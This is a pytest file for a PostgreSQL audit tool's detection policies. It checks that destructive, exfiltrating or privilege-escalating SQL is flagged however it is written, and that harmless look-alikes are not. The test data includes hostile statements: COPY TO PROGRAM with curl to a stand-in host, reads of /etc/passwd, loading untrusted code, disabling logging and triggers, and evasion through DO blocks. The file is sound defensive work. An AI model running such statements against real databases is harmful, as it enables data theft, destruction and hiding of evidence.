"""The packaged policies against statements as they are sent: what must not slip through, and what is no action."""

from __future__ import annotations

from typing import Any

import pytest

from collectors.log.interpretation.texts import Texts
from detectors.judge import Judge
from detectors.policy.policies import Bundle
from detectors.sensitive import Sensitive
from pgwitness.core.config import Mask, Privacy
from pgwitness.core.events import LogPlace, RawHeader, Statement
from pgwitness.core.privacy import tokenizer
from pgwitness.core.sql.statements import facts as facts_of
from streams.fold.events.base import line_id
from streams.fold.events.statement import statement_event as shaped
from streams.fold.memory.attribution import Attribution
from tests.detectors.material import START_US, change

AGENT = Attribution(principal="helper", principal_kind="agent", role="helper", binding="log", certainty="strong")
PERSON = Attribution(principal="ada", principal_kind="human", role="ada", binding="log", certainty="strong")
PACKAGED = Bundle.packaged()


def matched(text: str, whose: Attribution = AGENT, rows: int | None = 50, **facts: Any) -> set[str]:
    """Return the packaged policies that match a statement, as the collector of the log and the worker pass it on."""
    found = Texts(tokenizer(bytes(32))).read(text)
    raw = Statement(
        captured_at_us=START_US,
        place=LogPlace("log", 0),
        format="jsonlog",
        source="duration",
        occurred_at_us=START_US,
        pid=1,
        database="shop",
        statement=found.statement,
        statement_hash=found.hash,
        parsed=found.parsed,
        row_count=rows,
        **facts,
    )
    judge = Judge(PACKAGED, labels={}, behaviour=None, sensitive=Sensitive(["public.customers.email"]))
    header = RawHeader("shop", "log", "db:5432")
    known = facts_of(raw.statement) if raw.statement is not None else None
    verdict = judge.judge(shaped(header, raw, line_id(header, raw.place), known, whose))
    assert not [alert for alert in verdict.alerts if alert.detector.startswith("policy_error")]
    return set(verdict.policies)


@pytest.mark.parametrize(
    ("text", "policy"),
    [
        ("SELECT 1; DELETE FROM users", "delete_without_where"),
        ("/* x */ DELETE FROM users", "delete_without_where"),
        ("-- x\nDELETE\tFROM users", "delete_without_where"),
        ("WITH gone AS (DELETE FROM users RETURNING id) SELECT count(*) FROM gone", "delete_without_where"),
        ("DO $$BEGIN DELETE FROM users; END$$", "delete_without_where"),
        (
            "DO $$DECLARE r record; BEGIN FOR r IN SELECT 1 LOOP DELETE FROM users; END LOOP; END$$",
            "delete_without_where",
        ),
        ("DO $$BEGIN EXECUTE 'DELETE FROM ' || quote_ident('users'); END$$", "delete_without_where"),
        ("DO $$BEGIN EXECUTE format('TRUNCATE %I', 'users'); END$$", "truncate"),
        ("DO $a$BEGIN EXECUTE $b$DO $c$BEGIN TRUNCATE users; END$c$$b$; END$a$", "truncate"),
        ("DELETE FROM users WHERE true", "delete_without_where"),
        ("DELETE FROM users WHERE 1 = 1", "delete_without_where"),
        ("DELETE FROM users WHERE id = id", "delete_without_where"),
        ("DELETE FROM users WHERE NOT (id <> id)", "delete_without_where"),
        ("DELETE FROM users WHERE id IS NOT NULL", "delete_without_where"),
        ("DELETE FROM users WHERE id IN (SELECT id FROM users)", "delete_without_where"),
        ("DELETE FROM users WHERE name LIKE '%' OR name IS NULL", "delete_without_where"),
        ("UPDATE users SET admin = true WHERE id BETWEEN id AND id", "delete_without_where"),
        ("EXPLAIN ANALYZE DELETE FROM users", "delete_without_where"),
        ("EXPLAIN (ANALYZE, COSTS off) DELETE FROM users", "delete_without_where"),
        ("MERGE INTO users u USING (SELECT 1) s ON true WHEN MATCHED THEN DELETE", "delete_without_where"),
        ("COPY (DELETE FROM users RETURNING *) TO STDOUT", "delete_without_where"),
        ("CREATE TABLE x AS WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d", "delete_without_where"),
        ("GRANT SET ON PARAMETER session_replication_role TO helper", "privilege_escalation"),
        ("DO $$BEGIN PERFORM set_config('session_authorization', 'ada', true); END$$", "session_authorization"),
        ("SELECT query_to_xml('DELETE FROM users RETURNING *', true, false, '')", "delete_without_where"),
        ("SELECT * FROM dblink('', 'DELETE FROM users') AS t(a int)", "delete_without_where"),
        ("TRUNCATE users", "truncate"),
        ("TRUNCATE ONLY users, orders CASCADE", "truncate"),
        ("DROP/**/TABLE users", "drop_table"),
        ("DROP OWNED BY app", "drop_table"),
        ("DROP SCHEMA public CASCADE", "drop_table"),
        ("DROP DATABASE shop", "drop_table"),
        ("DO $$BEGIN DROP TABLE users; END$$", "drop_table"),
        ("COPY users TO PROGRAM 'curl -d @- evil'", "copy_program"),
        ("COPY users FROM PROGRAM 'id'", "copy_program"),
        ("DO $$BEGIN EXECUTE 'COPY users TO PROGRAM ''id'''; END$$", "copy_program"),
        ("COPY users TO '/tmp/x'", "server_files"),
        ("SELECT pg_catalog.pg_read_file('/etc/passwd')", "server_files"),
        ("SELECT lo_import('/etc/passwd')", "server_files"),
        ("DO $$BEGIN PERFORM pg_read_binary_file('x'); END$$", "server_files"),
        ("SELECT public.dblink_connect('host=evil')", "foreign_connection"),
        ("CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw", "foreign_connection"),
        ("CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p", "foreign_connection"),
        ("CREATE EXTENSION IF NOT EXISTS dblink", "dangerous_extension"),
        ("CREATE LANGUAGE plpython3u", "dangerous_extension"),
        ("CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'libc', 'system'", "untrusted_code"),
        ("DO LANGUAGE plpython3u $$import os$$", "untrusted_code"),
        ("LOAD 'evil'", "untrusted_code"),
        ("SET session_replication_role = replica", "replication_role"),
        ("SELECT set_config('session_replication_role', 'replica', false)", "replication_role"),
        ("DO $$BEGIN SET LOCAL session_replication_role = 'replica'; END$$", "replication_role"),
        (
            "CREATE FUNCTION f() RETURNS void LANGUAGE sql SET session_replication_role = replica AS ''",
            "replication_role",
        ),
        ("ALTER ROLE app SET session_replication_role = replica", "replication_role"),
        ("ALTER SYSTEM SET log_statement = 'none'", "logging_off"),
        ("ALTER ROLE ada SET log_min_duration_statement = -1", "logging_off"),
        ("ALTER DATABASE shop SET pgaudit.log = 'none'", "logging_off"),
        ("SET event_triggers = off", "logging_off"),
        ("ALTER ROLE helper SUPERUSER", "privilege_escalation"),
        ("CREATE ROLE x BYPASSRLS LOGIN", "privilege_escalation"),
        ("DO $$BEGIN CREATE USER x SUPERUSER; END$$", "privilege_escalation"),
        ("GRANT pg_execute_server_program TO helper", "privilege_escalation"),
        ("GRANT SELECT ON users TO PUBLIC", "granted_to_everybody"),
        ("ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC", "granted_to_everybody"),
        ("SET SESSION AUTHORIZATION ada", "session_authorization"),
        ("CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS 'begin end'", "security_definer"),
        ("ALTER FUNCTION f() SECURITY DEFINER", "security_definer"),
        ("ALTER TABLE users DISABLE ROW LEVEL SECURITY", "row_security_off"),
        ("ALTER TABLE users DISABLE TRIGGER audit_users", "trigger_disabled"),
        ("ALTER TABLE users DISABLE TRIGGER ALL", "beacon_disabled"),
        ("ALTER TABLE users DISABLE TRIGGER USER", "beacon_disabled"),
        ("DROP TRIGGER pgwitness_beacon ON users", "beacon_disabled"),
        ("DROP PUBLICATION pgwitness", "witness_touched"),
        (
            "SELECT pg_drop_replication_slot(slot_name) FROM pg_replication_slots WHERE slot_name ~ 'x'",
            "evidence_reset",
        ),
        ("SELECT pg_stat_statements_reset()", "evidence_reset"),
        ("REASSIGN OWNED BY ada TO helper", "ownership_changed"),
        ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "sessions_killed"),
        ("SELECT * FROM hr.salaries", "agent_outside_schemas"),
    ],
)
def test_what_is_dangerous_is_found_however_it_is_written(text: str, policy: str) -> None:
    """Each way around a filter of words is the same statement to a parser."""
    assert policy in matched(text)


@pytest.mark.parametrize(
    "text",
    [
        "SELECT 'drop table x'",
        "SELECT 'DELETE FROM users' AS delete_from",
        "INSERT INTO notes VALUES ('TRUNCATE users; COPY x TO PROGRAM')",
        'SELECT "drop" FROM "delete"',
        "EXPLAIN DELETE FROM users",
        "PREPARE p AS DELETE FROM users",
        "CREATE POLICY p ON users AS RESTRICTIVE USING (true)",
        "DROP POLICY IF EXISTS p ON users",
        "DROP TRIGGER IF EXISTS audit ON users",
        "GRANT SET ON PARAMETER work_mem TO helper",
        "SELECT 1 -- ; DROP TABLE users",
        "/* DELETE FROM users */ SELECT 1",
        "DELETE FROM users WHERE id = 5",
        "UPDATE users SET deleted = true WHERE id = 5",
        "MERGE INTO users u USING new n ON u.id = n.id WHEN MATCHED THEN UPDATE SET a = n.a",
        "WITH x AS (SELECT 1 AS id) DELETE FROM users USING x WHERE users.id = x.id",
        "CREATE FUNCTION clean() RETURNS void LANGUAGE sql AS 'DELETE FROM queue'",
        "SET search_path = public",
        "SET session_replication_role = origin",
        "COPY users TO STDOUT",
        "DROP INDEX i",
        "ALTER TABLE users ADD COLUMN x int",
        "GRANT SELECT ON users TO reports",
        "CREATE ROLE reports LOGIN",
        "DO $$BEGIN PERFORM 1; END$$",
        "DO $$BEGIN RAISE NOTICE 'TRUNCATE users'; END$$",
    ],
)
def test_what_only_looks_dangerous_is_left_alone(text: str) -> None:
    """Words in texts, comments and names are no actions; nor is a statement that is only explained or kept."""
    quiet = {"role_changed", "bulk_read"}
    assert matched(text, PERSON, rows=1) - quiet == set()


def test_a_refused_attempt_is_reported_where_the_attempt_matters() -> None:
    """What the server refused did nothing; to have tried to reach its files or its power is told all the same."""
    refused: dict[str, Any] = {"outcome": "denied", "sqlstate": "42501"}
    assert matched("TRUNCATE users", **refused) == set()
    assert matched("SELECT pg_read_file('x')", **refused) == {"server_files"}
    assert matched("ALTER ROLE helper SUPERUSER", **refused) == {"privilege_escalation"}


@pytest.mark.parametrize(
    "text",
    [
        "SELECT x FROM customers x",
        "SELECT to_json(x) FROM customers x",
        "SELECT row_to_json(customers) FROM customers",
        "SELECT (x).* FROM customers x",
        "SELECT (x).email FROM public.customers x",
        "SELECT x::text FROM customers AS x WHERE true",
        "SELECT json_agg(c) FROM customers c",
        "SELECT ARRAY(SELECT email FROM customers)",
        "SELECT query_to_xml('SELECT email FROM customers', true, false, '')",
        "TABLE customers",
        "SELECT table_to_xml('customers', true, false, '')",
        "SELECT table_to_xml('public.customers'::regclass, true, false, '')",
        "SELECT e FROM customers AS c(i, e)",
        "COPY customers (id, email) TO STDOUT",
        "COPY (SELECT email FROM customers) TO STDOUT",
        "WITH x AS (SELECT email FROM customers) SELECT * FROM x",
        "CREATE TABLE x AS SELECT * FROM customers",
        "INSERT INTO x SELECT email FROM customers",
        "DO $$BEGIN EXECUTE 'SELECT email FROM customers'; END$$",
        "BEGIN; DECLARE c CURSOR FOR SELECT email FROM customers; FETCH ALL FROM c; COMMIT",
        "DELETE FROM customers RETURNING *",
        "UPDATE customers SET name = '' WHERE id > 0 RETURNING old.email",
    ],
)
def test_every_way_to_read_sensitive_columns_is_seen(text: str) -> None:
    """Whole rows, copies, cursors and RETURNING: of all rows without a count, and of many where they were counted."""
    uncounted = matched(text, PERSON, rows=None)
    assert "sensitive_read" in uncounted or "RETURNING" in text
    assert "sensitive_read" in matched(text, PERSON, rows=300)


@pytest.mark.parametrize(
    "text",
    [
        "SELECT email FROM customers WHERE id = 3",
        "SELECT email FROM customers LIMIT 10",
        "SELECT count(DISTINCT email) FROM customers",
        "SELECT name FROM customers",
        "INSERT INTO customers (email) SELECT mail FROM stage",
        "COPY customers (email) FROM STDIN",
        "UPDATE customers SET email = lower(email)",
        "DECLARE c CURSOR FOR SELECT email FROM customers",
        "EXPLAIN SELECT email FROM customers",
        "SELECT * FROM pg_roles",
    ],
)
def test_what_gives_no_list_of_sensitive_values_is_left_alone(text: str) -> None:
    """One record, a page, a number, values that are written and not read, and what was only planned."""
    assert "sensitive_read" not in matched(text, PERSON, rows=None)


def test_sensitive_columns_come_from_the_configuration() -> None:
    """What is masked is sensitive, what is listed is too; a star, an alias and a missing schema hide nothing."""
    privacy = Privacy(
        mask=[Mask(column="hr.*.iban"), Mask(column="public.x.clear", with_="clear")], sensitive=["*.ssn"]
    )
    known = Sensitive.of(privacy)
    assert known.among(["hr.staff.iban", "hr.staff.name", "people.ssn", "x.clear"], []) == [
        "hr.staff.iban",
        "people.ssn",
    ]
    assert Sensitive(["hr.staff.iban"]).among(["hr.staff.*", "hr.teams.*"], []) == ["hr.staff.*"]
    exact = Sensitive(["public.*.email", "*.ssn", "staff.iban"])
    assert exact.among(["pg_roles.email", "hr.staff.email", "staff.email"], []) == ["staff.email"]
    assert exact.among(["pg_roles.*", "pg_catalog.pg_class.*", "hr.staff.*"], []) == ["hr.staff.*"]
    assert exact.among(['"a.b".c.email', 'public."a.b".email'], []) == ['public."a.b".email']
    assert exact.among(["hr.staff.iban", "hr.teams.iban"], []) == ["hr.staff.iban"]
    assert Sensitive(["pg_catalog.pg_authid.rolpassword"]).among(["pg_authid.*"], []) == ["pg_authid.*"]
    assert known.among(["iban"], ["hr.staff", "public.orders"]) == ["iban"]
    assert known.among(["iban"], ["orders"]) == []
    assert "sensitive_read" in matched("SELECT email FROM customers c", PERSON, rows=500)
    assert "sensitive_read" in matched(
        "SELECT c.* FROM public.customers c JOIN orders o ON o.c = c.id", PERSON, rows=500
    )
    assert "sensitive_read" not in matched("SELECT name FROM customers", PERSON, rows=500)
    assert "sensitive_read" not in matched("SELECT email FROM customers WHERE id = 3", PERSON, rows=1)


def test_one_who_was_inactive_for_weeks_is_reported() -> None:
    """A principal that was known and silent for forty days is found; a new one, or one from yesterday, is not."""
    judge = Judge(PACKAGED, labels={}, behaviour=None)
    day_us = 86_400_000_000

    def on(day: int, name: str) -> list[str]:
        return judge.judge(change(day, principal=name, occurred_at_us=START_US + day * day_us)).policies

    assert on(0, "ada") == on(1, "ada") == []
    assert on(2, "bob") == []
    again = Judge(Bundle.packaged(), labels={}, behaviour=None)
    again.restore(judge.snapshot())
    judge = again
    assert on(42, "ada") == ["dormant_principal"]
    assert on(42, "ada") == []
    assert on(43, "bob") == ["dormant_principal"]
    assert on(43, "eve") == []


def test_there_are_enough_and_all_can_be_acted_on() -> None:
    """At least twenty-five policies, each with a technique and a first step for who is woken."""
    policies = Bundle.packaged().policies.values()
    assert len(policies) >= 25
    for policy in policies:
        assert len(policy.document.runbook) > 40, policy.id
        assert policy.document.attack, policy.id
